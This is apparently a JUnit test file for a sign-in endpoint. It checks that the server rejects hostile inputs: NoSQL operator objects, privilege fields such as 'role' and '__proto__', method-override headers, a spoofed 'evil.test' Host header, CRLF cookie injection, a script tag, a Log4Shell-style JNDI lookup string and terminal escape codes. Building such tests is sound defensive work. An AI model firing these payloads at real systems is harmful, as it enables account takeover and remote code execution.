package org.doorward.internal.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.UncheckedIOException;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Supplier;
import org.doorward.internal.http.answer.Json;
import org.doorward.testing.Answers;
import org.doorward.testing.CapturedLogs;
import org.doorward.testing.DoorwardServer;
import org.doorward.testing.RawHttp;
import org.doorward.testing.Visitor;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attack data on the sign-in by password.
 */
@Tag("server")
class SignInAttacksTest {
    private static final String JSON = "Content-Type: application/json";
    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    private static final String[] PATIENT = {
        "doorward.sign-in.free-attempts", "1000",
        "doorward.sign-in.account-attempts", "1000",
        "doorward.sign-in.address-attempts", "0",
        "doorward.development", "true"
    };
    /** As it is: base64 and blanks. */
    private static final String QUOTED = "\"" + DoorwardServer.PASSWORD + "\"";

    private static DoorwardServer server;

    @BeforeAll
    static void start() {
        server = new DoorwardServer(PATIENT);
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static RawHttp.Answer post(String target, String body, String... lines) {
        return RawHttp.send(server.port(), "POST " + target, body, lines);
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[\"V\"]",
                "[\"V\",\"bob\"]",
                "[]",
                "[[\"V\"]]",
                "{\"V\":\"V\"}",
                "{\"$ne\":null}",
                "{\"$gt\":\"\"}",
                "{}",
                "null",
                "0",
                "1",
                "-1",
                "1e400",
                "1.5",
                "12345678901234567890",
                "true",
                "false"
            })
    void whatIsNoTextIsNeitherUsernameNorPassword(String value) {
        String good = QUOTED;
        String username = "{\"username\":" + value.replace("V", "ada") + ",\"password\":" + good + "}";
        String password = "{\"username\":\"ada\",\"password\":" + value.replace("\"V\"", good) + "}";
        for (String body : List.of(username, password)) {
            Answers.assertSetsNoCookie(Answers.assertProblem(400, "malformed", post("/auth/login", body, JSON)));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "role",
                "roles",
                "tenant",
                "expiresIn",
                "expires_in",
                "scopes",
                "scope",
                "admin",
                "session_id",
                "id",
                "account",
                "epoch",
                "client_id",
                "grant_type",
                "__proto__",
                "constructor"
            })
    void nobodyGivesThemselvesMoreByAFieldOfTheirOwn(String name) {
        String good = "\"username\":\"ada\",\"password\":" + QUOTED;
        Answers.assertProblem(400, "malformed", post("/auth/login", "{" + good + ",\"" + name + "\":\"root\"}", JSON));
        RawHttp.Answer form = post(
                "/auth/login",
                "username=ada&transport=bearer&password=" + encoded(DoorwardServer.PASSWORD) + "&" + name + "=root",
                FORM);
        assertEquals(200, form.status(), form::toString);
        assertEquals(
                "[\"admin\",\"user\"]",
                Answers.json(form).get("account").get("roles").toString());
        String token = Answers.json(form).get("access_token").textValue();
        Answers.assertProblem(
                403, "forbidden", RawHttp.send(server.port(), "GET /api/root", "", "Authorization: Bearer " + token));
    }

    @Test
    void onlyTheBodySaysWhoSignsIn() {
        String good = "username=ada&transport=bearer&password=" + encoded(DoorwardServer.PASSWORD);
        RawHttp.Answer body = post("/auth/login?username=bob&password=other&transport=cookie", good, FORM);
        assertEquals(200, body.status(), body::toString);
        assertEquals("ada", Answers.json(body).get("account").get("username").textValue());
        Answers.assertSetsNoCookie(body);
        RawHttp.Answer other = post("/auth/login?" + good, "username=bob&password=wrong-one", FORM);
        Answers.assertProblem(401, "credentials", other);
        RawHttp.Answer none = post("/auth/login?" + good, "", FORM);
        Answers.assertProblem(422, "invalid-field", none);
        Answers.assertProblem(400, "malformed", post("/auth/login", good + "&username=bob", FORM));
    }

    /** Or hung up on, before all was sent. */
    static void assertTurnedAway(int status, Supplier<RawHttp.Answer> call) {
        try {
            RawHttp.Answer answer = call.get();
            assertEquals(status, answer.status(), answer::toString);
            Answers.assertSetsNoCookie(answer);
        } catch (UncheckedIOException e) {
            assertFalse(e.getCause() instanceof SocketTimeoutException, "it was left waiting");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Original-Method", "_method"})
    void aPostStaysOneWhateverAHeaderCallsIt(String header) {
        Visitor browser = Visitor.browser(server);
        for (String method : List.of("GET", "HEAD", "OPTIONS")) {
            Answers.assertProblem(
                    403,
                    "cross-origin",
                    Answers.unhandled(
                            server,
                            () -> post(
                                    "/api/hello?_method=" + method,
                                    "_method=" + method,
                                    browser.cookies(),
                                    "Sec-Fetch-Site: cross-site",
                                    FORM,
                                    header + ": " + method)));
        }
        for (String method : List.of("POST", "DELETE")) {
            RawHttp.Answer asked =
                    RawHttp.send(server.port(), "GET /auth/login?_method=" + method, "", header + ": " + method);
            Answers.assertProblem(405, "method-not-allowed", asked);
        }
        browser.assertSignedIn();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Host: evil.test", "Host: evil.test:1", "X-Forwarded-Host: evil.test"})
    void theHostThatIsNamedIsInNoAnswerOfASignIn(String line) {
        String[] lines = {line, FORM, "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Accept: text/html"};
        for (String password : List.of(DoorwardServer.PASSWORD, "wrong-one")) {
            for (String query : List.of("", "&return_to=/public/x")) {
                RawHttp.Answer answer =
                        post("/auth/login", "username=ada&password=" + encoded(password) + query, lines);
                assertTrue(answer.status() < 500, answer::toString);
                assertFalse(answer.toString().contains("evil"), answer::toString);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mozilla/5.0 \u001b[31mred\u001b[0m",
                "a\u0007b\u0008c\u007fd",
                "agent%0d%0aSet-Cookie: planted=1",
                "<script>alert(1)</script>",
                "\"},{\"current\":true",
                "${jndi:ldap://evil.test/x}",
                "tab\there",
                "LONG"
            })
    void aHostileUserAgentIsShortAndCleanInListAndLog(String agent) {
        String sent = agent.equals("LONG") ? "Firefox/1".repeat(600) : agent;
        try (CapturedLogs logs = new CapturedLogs("org.doorward")) {
            RawHttp.Answer answer = Visitor.signIn(server, DoorwardServer.USERNAME, "", "User-Agent: " + sent);
            if (answer.status() == 400) {
                // the server itself takes no such header
                return;
            }
            assertEquals(200, answer.status(), answer::toString);
            String bearer = "Authorization: Bearer "
                    + Answers.json(answer).get("access_token").textValue();
            String list = RawHttp.send(server.port(), "GET /auth/sessions", "", bearer)
                    .body();
            for (String text : List.of(list, logs.text())) {
                assertFalse(text.contains("\u001b") || text.contains("\u0007") || text.contains("planted"), text);
                assertFalse(text.contains("Firefox/1Firefox/1"), "truncated");
            }
            assertTrue(Json.readObject(list).isPresent(), list);
        }
    }

    @Test
    void aUserAgentOfAMegabyteSignsNobodyIn() {
        assertTurnedAway(
                431, () -> Visitor.signIn(server, DoorwardServer.USERNAME, "", "User-Agent: " + "x".repeat(1_048_576)));
    }
}
